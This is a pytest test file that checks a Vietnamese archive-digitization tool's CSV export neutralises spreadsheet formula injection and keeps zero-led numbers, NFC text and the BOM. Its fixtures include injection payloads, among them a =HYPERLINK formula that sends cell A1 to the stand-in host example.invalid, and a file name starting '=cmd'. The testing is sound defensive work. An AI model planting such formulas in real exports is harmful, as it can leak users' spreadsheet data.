"""Items 16 and 28 of issue 17: the CSV export is safe and right in Excel: no cell starts a
formula, numbers written as text keep their leading zero, names are NFC, the review column
names fields in Vietnamese, and the file starts with a UTF-8 BOM."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest

from digitize.pipelines.catalog import CSV_COLUMNS, csv_cell
from digitize.records import METADATA_FIELDS, FieldValue, Metadata

from ..conftest import json_lines

pytestmark = pytest.mark.slow

BOM = "\ufeff".encode()
VALUES = {
    "number": "05",
    "symbol": "-QĐ-UBND",
    "abstract": '=HYPERLINK("http://example.invalid/?x="&A1,"mở")',
    "issuer": "@SUM(1+1)",
    "signer": "+84 912 345 678",
    "signer_title": "\tCHỦ TỊCH",
    "place": "\rQuảng Ngãi",
    "doc_type": "Quyết định",
}


def test_csv_cell_neutralises_formulas_and_keeps_the_value():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell("05") == "'05" and csv_cell("0") == "0" and csv_cell("15") == "15"
    assert csv_cell("1234567890123456") == "'1234567890123456"  # Excel keeps 15 digits
    assert csv_cell("15/QĐ-UBND") == "15/QĐ-UBND" and csv_cell("a=b") == "a=b"
    assert csv_cell(12) == 12 and csv_cell(None) == ""
    nfd = unicodedata.normalize("NFD", "Quyết định")
    assert csv_cell(nfd) == "Quyết định" != nfd


@pytest.fixture
def exported(run, page_pdf, monkeypatch, tmp_path):
    """One document named "=cmd…" in NFD, with hostile and zero-led field values, as CSV."""

    def extract(pages, *, source_name=None, **kwargs):
        return Metadata({name: FieldValue(VALUES.get(name), 0.95 if name in VALUES else 0.0, "ocr")
                         for name in METADATA_FIELDS})

    monkeypatch.setattr("digitize.pipelines.second_look.extract_metadata", extract)
    name = unicodedata.normalize("NFD", "=cmd quyết định.pdf")
    row = json_lines(run("ingest", page_pdf(name, dpi=150), "--json", "--jobs", "1").stdout)[0]
    assert row["status"] == "ingested", row
    out = tmp_path / "archive.csv"
    assert run("export", "--format", "csv", "-o", out).exit_code == 0
    stdout = run("export", "--format", "csv").stdout_bytes
    return out.read_bytes(), stdout


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_export_csv_is_safe_and_reads_right_in_excel(exported):
    data, stdout = exported
    assert data.startswith(BOM) and not data.startswith(BOM * 2)
    assert stdout == data
    (row,) = _rows(data)
    header = dict(CSV_COLUMNS)
    cells = {key: row[header[key]] for key in header}
    assert cells["source_name"] == "'=cmd quyết định.pdf"  # NFC, and no formula
    for key, value in VALUES.items():
        expected = value if key == "doc_type" else "'" + value
        assert cells[key] == expected, key
    assert cells["id"] == str(1) and cells["page_count"] == "1"
    # fields are named as in the headers, in Vietnamese; "; " since the names hold commas
    review = cells["needs_review"].split("; ")
    assert "Ngày, tháng, năm văn bản" in review and "Số và ký hiệu" in review
    assert not any(name in cells["needs_review"] for name in ("issued_date", "number_symbol"))
    for cell in row.values():
        assert unicodedata.is_normalized("NFC", cell)
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
